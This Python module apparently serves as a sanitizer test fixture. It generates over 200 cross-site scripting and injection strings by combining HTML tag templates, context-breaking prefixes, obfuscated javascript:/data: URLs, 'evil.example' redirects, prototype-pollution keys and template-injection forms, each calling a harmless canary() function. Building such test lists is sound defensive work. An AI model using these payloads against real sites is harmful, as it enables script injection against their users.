"""Strings that would run `canary()` if anything took them for more than text: our own list, put together from parts."""

from itertools import product
from typing import Final

CALLS: Final = ("canary()", "canary`1`", "window['canary']()", "top.canary(1)")
TAGS: Final = (
    "<script>{call}</script>", "<script type=module>{call}</script>", "<img src=x onerror={call}>",
    "<img src=x: onerror='{call}'>", "<svg onload={call}>", "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>", "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<iframe src='javascript:parent.{call}'></iframe>", "<body onload={call}>",
    "<video><source onerror={call}></video>",
    "<details open ontoggle={call}>", "<input autofocus onfocus={call}>", "<object data='javascript:{call}'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><script>{call}</script></template>", "<a href='javascript:{call}' autofocus>x</a>",
    "<form action='javascript:{call}'><button autofocus>x</form>", "<style onload={call}></style>",
    "<link rel=stylesheet href=/x onerror={call}>", "<base href='javascript:{call}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>", "<mark onpointerrawupdate={call}>x</mark>",
    "<audio src=x onerror={call}></audio>", "<embed src='javascript:{call}'>",
    "<select autofocus onfocus={call}></select>",
    "<div style='width:expression({call})' onmouseover={call}>x</div>",
    "<image src=x onerror={call}>", "<svg><set onbegin={call} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>", "<marquee onstart={call}>x</marquee>",
    "<p contenteditable autofocus onfocus={call}>x</p>", "<dialog open onfocus={call}><input autofocus></dialog>",
    "<svg><style><img src=x onerror={call}></style></svg>", "<textarea autofocus onfocus={call}></textarea>",
    "<iframe onload={call}></iframe>", "<svg><use href='data:image/svg+xml,<svg onload={call}/>'></svg>",
    "<button popovertarget=x onfocus={call} autofocus>x</button>", "<x tabindex=0 autofocus onfocus={call}>x</x>",
)  # fmt: skip
BREAKS: Final = (
    '"', "'", "</mark>", "-->", "]]>", '">', "'>", "</title>", "</textarea>", "\u2028", "\0", "&quot;>", "&#39;>",
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:{call}", "JaVaScRiPt:{call}", " javascript:{call}", "java\tscript:{call}", "java\nscript:{call}",
    "\x01javascript:{call}", "javascript&colon;{call}", "javascript:/*--></title>*/{call}", "//evil.example/{call}",
    "\\\\evil.example\\{call}", "https://evil.example/#{call}", "data:text/html,<script>parent.{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuY2FuYXJ5KCk8L3NjcmlwdD4=", "vbscript:{call}", "blob:{call}",
    "filesystem:javascript:{call}", "http:javascript:{call}", "/\\evil.example/{call}", "view-source:javascript:{call}",
)  # fmt: skip
WORDS: Final = (
    "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "valueOf", "{{{call}}}", "${{{call}}}",
    "{{% raw %}}{call}", "'-{call}-'", '"+{call}+"', "`${{{call}}}`", "');{call};//", "\\');{call};//", "*/{call}/*",
    "%3Cscript%3E{call}%3C/script%3E",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e", "＜script＞{call}＜/script＞",
    "\u202e<script>{call}</script>", "\ufeff<script>{call}</script>",
    "<<script>script>{call}</script>", "<sc\0ript>{call}",
    "<IMG SRC=x ONERROR={call}>", "<img/src/onerror={call}>", "<img\nsrc=x\nonerror={call}>",
    "<x style='animation:x' onanimationstart={call}>",
)  # fmt: skip


def attacks() -> tuple[str, ...]:
    """More than 200 different strings."""
    plain = [template.format(call=call) for template, call in product(TAGS, CALLS)]
    broken = [mark + TAGS[number % len(TAGS)].format(call=CALLS[0]) for number, mark in enumerate(BREAKS * 3)]
    addresses = [template.format(call=CALLS[number % 2]) for template, number in product(ADDRESSES, range(2))]
    words = [template.format(call=call) for template, call in product(WORDS, CALLS[:1])]
    return tuple(dict.fromkeys([*plain, *broken, *addresses, *words]))
